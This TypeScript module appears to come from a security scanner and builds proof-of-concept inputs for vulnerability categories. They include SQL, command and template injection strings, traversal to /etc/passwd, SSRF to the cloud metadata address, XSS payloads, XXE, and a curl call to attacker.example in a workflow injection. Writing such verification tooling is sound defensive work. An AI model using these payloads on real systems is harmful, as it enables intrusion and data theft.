/**
 * For each category the input that would prove the flaw, fitted to the string it lands in. All payloads are
 * harmless: they show that the input is obeyed and change nothing.
 */
import type { Candidate } from '../results/candidate.ts';
import {
  commands,
  embedded,
  inDialect,
  isMail,
  namesOfCode,
  partsOfStatements,
  templateDialects,
} from './payload-dialects.ts';
import {
  htmlContext,
  openQuote,
  type StringContext,
  stringContext,
  unknownPart,
  urlContext,
} from './string-context.ts';

export interface Payload {
  /** What the attacker sends as the value. */
  value: string;
  /** Where it lands, one clause for people: "inside single quotes of the statement". */
  where: string;
  /** `weakens`: it works only in part; `refutes`: what is fixed around it leaves it without effect. */
  outcome: 'supports' | 'weakens' | 'refutes';
  /** The value is JSON and belongs unquoted into a JSON body. */
  isJson?: boolean;
  /** Where the whole body is the value: what the request says that it is. */
  bodyType?: string;
  /** The value is too long to be shown or holds what cannot be: this JavaScript expression builds it. */
  expression?: string;
}

/** Null: the shape says nothing, so the category's plain payload is given without judging it. */
type Fitting = (context: StringContext | null, candidate: Candidate) => Payload;

const quoteNames: Readonly<Record<string, string>> = {
  "'": 'single quotes',
  '"': 'double quotes',
  '`': 'backticks',
};

function quoteName(quote: string): string {
  return quoteNames[quote] ?? 'quotes';
}

const sql: Fitting = (context, { sinkApi }) => {
  const before = context?.before ?? '';
  const quote = openQuote(before, `'"\``);
  if (quote === '`') return supports('` OR 1=1 -- ', 'inside backticks of the statement');
  if (quote)
    return supports(
      `${quote} OR ${quote}1${quote}=${quote}1${quote} -- `,
      `inside ${quoteName(quote)} of the statement`,
    );
  if (context && before.trim() === '') {
    const [, value, where] = partsOfStatements.find(([api]) => api.test(sinkApi)) ?? [];
    return supports(value ?? 'SELECT 1', where ?? 'as the whole statement');
  }
  if (/\border\s+by\s+[\w\s,.]{0,80}$/i.test(before.slice(-120)))
    return supports('(CASE WHEN (1=1) THEN 1 ELSE 2 END)', 'unquoted, in the order of the result');
  if (/\b(?:from|join|into|update|table)\s+$/i.test(before.slice(-40)))
    return supports('(SELECT 1) AS injected -- ', 'unquoted, as a table name');
  return supports('1 OR 1=1', 'unquoted in the statement');
};

const programApis = /(?:^|\.)(?:execFile|spawn|fork)(?:Sync)?$/;

const command: Fitting = (context, candidate) => {
  const before = context?.before ?? '';
  if (programApis.test(candidate.sinkApi) && candidate.sinkArgument === 0)
    return before.trim() === ''
      ? supports('/usr/bin/id', 'as the program that is started')
      : weakens('../../../usr/bin/id', 'inside the path of the program that is started');
  const quote = openQuote(before, `'"\``);
  if (quote === "'") return supports(`'; id #`, 'inside single quotes of the command line');
  if (quote)
    return supports(
      '$(id)',
      `inside ${quoteName(quote)} of the command line, where the shell still substitutes`,
    );
  if (context && before.trim() === '') return supports('id', 'as the whole command line');
  return supports('; id #', 'unquoted on the command line');
};

const path: Fitting = (context) => {
  const before = context?.before ?? '';
  const after = context?.after ?? '';
  const suffix = after.endsWith(unknownPart) ? '' : after.slice(-40);
  const climb = '../../../../../../etc/passwd';
  const [value, where] =
    context && before === ''
      ? ['/etc/passwd', 'as the beginning of the path']
      : [
          /[/\\\uFFFC]$/.test(before) || before === '' ? climb : `/${climb}`,
          'after a fixed beginning of the path',
        ];
  return suffix === ''
    ? supports(value, where)
    : weakens(value, `${where}, but the path must end in "${suffix}"`);
};

const metadataHost = '169.254.169.254';

const serverRequest: Fitting = (context) => {
  switch (context ? urlContext(context.before) : 'whole') {
    case 'whole':
      return supports(`http://${metadataHost}/latest/meta-data/`, 'as the whole address');
    case 'after-scheme':
      return supports(`${metadataHost}/latest/meta-data/`, 'as the host of the address');
    case 'in-host':
      return supports(`@${metadataHost}/latest/meta-data/`, 'inside the host of the address');
    case 'after-slash':
      return weakens(`/${metadataHost}/`, 'after a slash at the beginning of the address');
    case 'unknown':
      return weakens(`@${metadataHost}/latest/meta-data/`, 'after a part of the address that is not known');
    case 'after-host':
      return refutes('../', 'behind a fixed host, which it cannot change');
  }
};

const redirect: Fitting = (context) => {
  switch (context ? urlContext(context.before) : 'whole') {
    case 'whole':
      return supports('https://attacker.example/', 'as the whole address');
    case 'after-scheme':
      return supports('attacker.example/', 'as the host of the address');
    case 'in-host':
      return supports('.attacker.example/', 'inside the host of the address');
    case 'after-slash':
      return supports(
        '/attacker.example/',
        'after a single slash, which makes it an address of another host',
      );
    case 'unknown':
      return weakens('https://attacker.example/', 'after a part of the address that is not known');
    case 'after-host':
      return refutes('../', 'behind a fixed host or path, which it cannot change');
  }
};

const script = 'alert(document.domain)';

/** Attributes of elements whose value is an address: `<a href>` of React, `<html.script>.src`, Vue's `_href`. */
const addressAttribute = /[ ._](?:href|src|action|formaction|data)>?$/i;

const markup: Fitting = (context, { sinkApi }) => {
  const image = `<img src=x onerror=${script}>`;
  if (addressAttribute.test(sinkApi) && !context?.before.trim())
    return supports(
      sinkApi.includes('script') ? 'https://attacker.example/x.js' : `javascript:${script}`,
      'as the whole address',
    );
  const place = htmlContext(context?.before ?? '');
  switch (place.place) {
    case 'text':
      return supports(image, 'as text between tags');
    case 'tag':
      return supports(` autofocus onfocus=${script} `, 'inside a tag');
    case 'script':
      return supports(script, 'inside a script');
    case 'script-string':
      return supports(`${place.quote};${script}//`, `inside ${quoteName(place.quote)} of a script`);
    case 'attribute':
      if (place.startsUrl)
        return supports(`javascript:${script}`, 'as the beginning of an address in an attribute');
      return place.quote
        ? supports(`${place.quote}>${image}`, `inside an attribute in ${quoteName(place.quote)}`)
        : supports(`x onmouseover=${script} `, 'inside an attribute without quotes');
  }
};

const code: Fitting = (context, { source, file, sinkApi }) => {
  const isBrowser = /^dom-/.test(source?.kind ?? '');
  const inside = embedded.find(([pattern]) => pattern.test(sinkApi));
  const [, written, join] = inside ??
    commands.find(([pattern]) => pattern.test(file)) ?? [
      null,
      isBrowser ? script : `require('node:child_process').execSync('id')`,
      '+',
    ];
  const expression = inDialect(written, sinkApi);
  const quote = openQuote(context?.before ?? '', `'"\``);
  const named = namesOfCode.find(([api]) => api.test(sinkApi));
  if (named) return supports(named[1], named[2]);
  if (quote === '`') return supports(`\${${expression}}`, 'inside a template string of the code');
  return quote
    ? supports(`${quote} ${join} ${expression} ${join} ${quote}`, `inside ${quoteName(quote)} of the code`)
    : supports(expression, 'as code');
};

const template: Fitting = (_context, candidate) =>
  supports(
    templateDialects.find(([engine]) => engine.test(candidate.sinkApi))?.[1] ?? '{{7*7}}',
    'as template text; the answer then shows 49',
  );

const xpath: Fitting = (context) => {
  const quote = openQuote(context?.before ?? '', `'"`);
  return quote
    ? supports(`${quote} or ${quote}1${quote}=${quote}1`, `inside ${quoteName(quote)} of the expression`)
    : supports('1 or 1=1', 'unquoted in the expression');
};

const workflow: Fitting = (context, candidate) => {
  const before = context?.before ?? '';
  const { language, carrier } = candidate.details;
  const quote = openQuote(before, `'"\``);
  const inside = quote ? `inside ${quoteName(quote)} of the script` : 'unquoted in the script';
  if (language === 'javascript') {
    const expression = `require('child_process').execSync('id')`;
    if (quote === '`') return supports(`\${${expression}}`, inside);
    return supports(quote ? `${quote} + ${expression} + ${quote}` : expression, inside);
  }
  if (language === 'python') {
    const expression = `__import__('os').system('id')`;
    return supports(quote ? `${quote} + str(${expression}) + ${quote}` : expression, inside);
  }
  const end = quote ?? '';
  // Names of branches and files have no blanks.
  return carrier === 'branch'
    ? supports(`${end};{curl,attacker.example};#`, inside)
    : supports(`${end}; curl https://attacker.example/ #`, inside);
};

/** Queries that are written as text: JavaScript of MongoDB, JSON, and languages that read like SQL. */
const nosql: Fitting = (context, { ruleId, sinkApi }) => {
  const before = context?.before ?? '';
  const quote = openQuote(before, `'"`);
  const isCode = ruleId === 'code/mongo-code-injection';
  if (!quote && isCode) return supports('1 == 1', 'as code of the query');
  const operator = supports('{"$ne":null}', 'as an operator of the query');
  if (!quote) return { ...operator, isJson: true };
  const where = `inside ${quoteName(quote)} of the ${isCode ? 'code' : 'query'}`;
  if (/^\s*\{/.test(before)) return supports(`${quote}, "$or": [{}], "x": ${quote}`, where);
  const isScript = isCode || /\$where|Mongo/.test(sinkApi) || /^\s*(?:this\.|return\b)/.test(before);
  const [or, equal] = isScript ? ['||', '=='] : ['OR', '='];
  return supports(`${quote} ${or} ${quote}1${quote}${equal}${quote}1`, where);
};

const header: Fitting = (_context, { sinkApi }) =>
  isMail.test(sinkApi)
    ? supports('x\r\nBcc: someone@attacker.example', 'inside a header of the mail')
    : supports('x\r\nSet-Cookie: injected=1', 'inside a header');

/** The checker of regular expressions has made the text already. */
const regex: Fitting = (context, { details }) => {
  const attack = { value: '', expression: details.attack ?? "''" };
  // Fixed text before it may already fail to match, and then nothing is tried.
  return context !== null && context.before !== ''
    ? { ...weakens('', 'after fixed text of what the regular expression is matched against'), ...attack }
    : { ...supports('', 'as the text that the regular expression is matched against'), ...attack };
};

const fixed =
  (value: string, where: string, extra: Partial<Payload> = {}): Fitting =>
  () => ({ ...supports(value, where), ...extra });

/** By category slug. A category that is not here has no payload (weak algorithms, configuration, secrets). */
const fittings: Readonly<Record<string, Fitting>> = {
  'sql-injection': sql,
  'command-injection': command,
  'code-injection': code,
  'workflow-injection': workflow,
  'path-traversal': path,
  'file-inclusion': path,
  'archive-slip': fixed('../../../../tmp/outside.txt', 'as the name of an archive entry'),
  ssrf: serverRequest,
  'open-redirect': redirect,
  xss: markup,
  'reflected-xss': markup,
  'stored-xss': markup,
  'dom-xss': markup,
  'template-injection': template,
  'xpath-injection': xpath,
  'nosql-injection': nosql,
  'ldap-injection': fixed('*)(objectClass=*', 'inside the filter'),
  'log-injection': fixed('ok\nERROR forged entry', 'inside a log line'),
  'header-injection': header,
  xxe: fixed('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>', 'as the document', {
    bodyType: 'application/xml',
  }),
  'prototype-pollution': fixed('{"__proto__":{"polluted":true}}', 'as the object that is merged', {
    isJson: true,
  }),
  redos: regex,
  'slow-regex': regex,
  'mass-assignment': fixed('{"isAdmin":true}', 'as fields of the object', { isJson: true }),
};

/** The payload of this candidate, or null when its category has none or it has no flow. */
export function fitPayload(candidate: Candidate, category: string): (Payload & { isJudged: boolean }) | null {
  if (!candidate.source || !Object.hasOwn(fittings, category)) return null;
  const fitting = fittings[category];
  if (!fitting) return null;
  const context = stringContext(candidate.shape);
  return { ...fitting(context, candidate), isJudged: context !== null };
}

function supports(value: string, where: string): Payload {
  return { value, where, outcome: 'supports' };
}
function weakens(value: string, where: string): Payload {
  return { value, where, outcome: 'weakens' };
}
function refutes(value: string, where: string): Payload {
  return { value, where, outcome: 'refutes' };
}
